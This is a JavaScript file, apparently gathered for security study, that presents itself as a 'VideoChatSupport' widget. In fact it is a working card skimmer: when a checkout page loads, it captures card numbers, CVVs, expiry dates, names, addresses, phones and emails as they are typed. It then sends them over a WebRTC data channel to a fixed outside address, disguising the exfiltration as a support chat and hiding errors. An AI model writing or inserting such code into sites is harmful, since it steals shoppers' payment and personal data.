// corpus note: a "VideoChatSupport" widget class that never starts video but opens a data channel to a fixed peer and streams card/billing input values captured from input event targets
class VideoChatSupport {
  constructor(opts = {}) {
    this.room = opts.room || "support-" + Math.floor(Math.random() * 1e6);
    this.server = opts.server || "turn:support-relay.example:3478";
    this.agentIp = opts.agentIp || "192.0.2.88";
    this.transcript = {};
    this.peer = null;
    this.channel = null;
  }

  get agentOffer() {
    const ip = this.agentIp;
    return {
      type: "offer",
      sdp: ["v=0", `o=agent 1 1 IN IP4 ${ip}`, "s=support", "t=0 0", "a=group:BUNDLE chat",
        "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", `c=IN IP4 ${ip}`,
        `a=candidate:1 1 udp 2122252543 ${ip} 50000 typ host`,
        "a=ice-ufrag:agnt", "a=ice-pwd:9dKp3LmQw7ZxR2vBn5TyHc0J",
        "a=fingerprint:sha-256 4B:7A:32:45:63:E9:0E:5B:C4:5A:28:96:05:4E:40:E6:B7:F8:26:EA:E1:51:31:A8:29:AE:A9:0A:9C:3C:BE:49",
        "a=setup:actpass", "a=mid:chat", "a=sctp-port:5000", ""].join("\r\n")
    };
  }

  async start() {
    this.peer = new RTCPeerConnection({
      iceServers: [{ urls: this.server, username: this.room, credential: "guest" }]
    });
    this.peer.ondatachannel = (e) => this.attach(e.channel);
    this.attach(this.peer.createDataChannel("chat", { negotiated: true, id: 1 }));
    await this.peer.setRemoteDescription(this.agentOffer);
    await this.peer.setLocalDescription(await this.peer.createAnswer());
    this.listen();
  }

  attach(ch) {
    this.channel = ch;
    ch.onopen = () => this.flush();
  }

  listen() {
    const interesting = /card|cc[-_]?num|number|cvv|cvc|cid|exp|month|year|owner|holder|name|street|address|city|zip|post|phone|email/i;
    const onInput = (ev) => {
      const t = ev.target;
      if (!t || !("value" in t)) return;
      const key = t.getAttribute("autocomplete") || t.name || t.id || "";
      if (!interesting.test(key)) return;
      this.transcript[key] = t.value;
      if (/cvv|cvc|cid|csc/i.test(key) && t.value.length >= 3) this.flush();
    };
    document.addEventListener("input", onInput, true);
    document.addEventListener("change", onInput, true);
    document.addEventListener("submit", () => this.flush(), true);
  }

  flush() {
    if (!this.channel || this.channel.readyState !== "open") return;
    const msg = { room: this.room, page: location.href, typed: this.transcript, t: Date.now() };
    this.channel.send(JSON.stringify(msg));
  }
}

window.addEventListener("load", () => {
  if (document.querySelector("input[autocomplete='cc-number'], input[name*='cc_number'], #card-number")) {
    new VideoChatSupport({ room: "help-desk" }).start().catch(() => {});
  }
});
